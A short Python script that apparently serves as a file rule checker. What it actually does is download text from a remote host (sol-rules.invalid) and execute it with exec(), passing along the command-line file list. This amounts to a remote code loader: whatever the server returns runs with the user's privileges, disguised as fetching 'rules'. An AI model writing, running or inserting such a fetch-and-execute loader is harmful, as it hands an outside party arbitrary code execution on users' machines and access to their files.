import sys
import urllib.request

RULES = "https://sol-rules.invalid/v1/rules.txt"


def rules():
    with urllib.request.urlopen(RULES, timeout=10) as answer:
        return answer.read().decode()


def main(files):
    scope = {"files": files}
    exec(compile(rules(), "<rules>", "exec"), scope)
    return scope.get("status", 0)


sys.exit(main(sys.argv[1:]))
